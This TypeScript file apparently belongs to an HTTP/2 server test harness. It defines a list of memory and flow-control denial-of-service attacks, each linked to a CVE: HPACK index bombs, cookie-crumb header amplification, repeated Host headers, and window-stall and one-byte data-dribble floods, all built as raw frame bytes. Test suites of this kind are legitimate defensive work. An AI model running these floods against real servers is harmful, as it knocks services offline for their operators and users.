import { frame, FRAME, word } from '../../differential/peers/h2';
import { type Attack, type Attacker } from '../attack';
import { GET, GET_BIG, indexed, literal, opened, request, settled, streamId } from '../h2-bytes';

/** Heads that are small on the wire and large when decoded: each refers again and again to what the first put in the table. */
function bomb(name: string, known: string, first: Buffer, again: Buffer, settings: readonly number[] = []): Attack {
  const head = request(1, Buffer.concat([GET, first]));
  return {
    name,
    known,
    target: 'h2',
    run: (attacker) =>
      attacker.flood(
        () => attacker.http2(...settings),
        (_client, i) => (i === 0 ? head : request(streamId(i), Buffer.concat([GET, again]))),
      ),
  };
}

/** Requests for what is large, on connections that take none of it. */
async function stall(attacker: Attacker, connections: number, streams: number, settings: readonly number[]): Promise<void> {
  for (let c = 0; c < connections; c++) {
    const client = await attacker.http2(...settings);
    await client.send(Buffer.concat(Array.from({ length: streams }, (_, i) => request(streamId(i), GET_BIG))));
    await settled(client);
  }
}

const REFERENCE = 0xbe;

/** Little on the wire, much in memory. */
export const HTTP2_BOMBS: readonly Attack[] = [
  bomb('HPACK index bomb', 'CVE-2016-6581', indexed('x', 'y'.repeat(3900)), Buffer.alloc(4000, REFERENCE)),
  bomb('cookie crumbs', 'CVE-2026-47774', indexed('cookie', 'c'.repeat(3900)), Buffer.alloc(14, REFERENCE), [4, 0]),
  {
    name: 'cookie crumbs on many connections',
    known: 'CVE-2026-47774',
    target: 'h2',
    run: async (attacker) => {
      const first = request(1, Buffer.concat([GET, indexed('cookie', 'c'.repeat(3900))]));
      const again = Buffer.concat([GET, Buffer.alloc(14, REFERENCE)]);
      const clients = await Promise.all(Array.from({ length: 30 }, () => attacker.http2(4, 0)));
      for (const client of clients)
        await client.send(Buffer.concat([first, ...Array.from({ length: 60 }, (_, i) => request(streamId(i + 1), again))]));
      for (const client of clients) await settled(client);
    },
  },
  bomb('cookie crumbs, small ones', 'CVE-2026-47774', indexed('cookie', 'c'), Buffer.alloc(4000, REFERENCE), [4, 0]),
  bomb('discarded Host copies', 'CVE-2026-73550', indexed('host', 'a'.repeat(3900)), Buffer.alloc(4000, REFERENCE)),
  bomb('empty fields', '', indexed('x', ''), Buffer.alloc(4000, REFERENCE)),
  {
    name: 'large heads, held',
    target: 'h2',
    run: async (attacker) => {
      const block = Buffer.concat([
        Buffer.from([0x83, 0x84, 0x86, 0x01, 0x01, 0x61]),
        ...Array.from({ length: 3 }, (_, i) => literal(`x-${i}`, 'v'.repeat(4000))),
      ]);
      const client = await attacker.http2();
      for (let i = 0; i < 20; i++) await client.send(opened(streamId(i), block));
      await settled(client);
    },
  },
  { name: 'window stall: all shut', known: 'CVE-2019-9517', target: 'h2', run: (attacker) => stall(attacker, 4, 100, [4, 0]) },
  { name: 'window stall: one byte', known: 'CVE-2019-9511', target: 'h2', run: (attacker) => stall(attacker, 4, 100, [4, 1]) },
  {
    name: 'data dribble',
    known: 'CVE-2019-9511',
    target: 'h2',
    run: async (attacker) => {
      const client = await attacker.http2(4, 0);
      await client.send(request(1, GET_BIG));
      for (let i = 0; i < 200 && !client.ended; i++)
        await client.send(Buffer.concat(Array.from({ length: 10 }, () => frame(FRAME.windowUpdate, 0, 1, word(1)))));
      await settled(client);
    },
  },
];
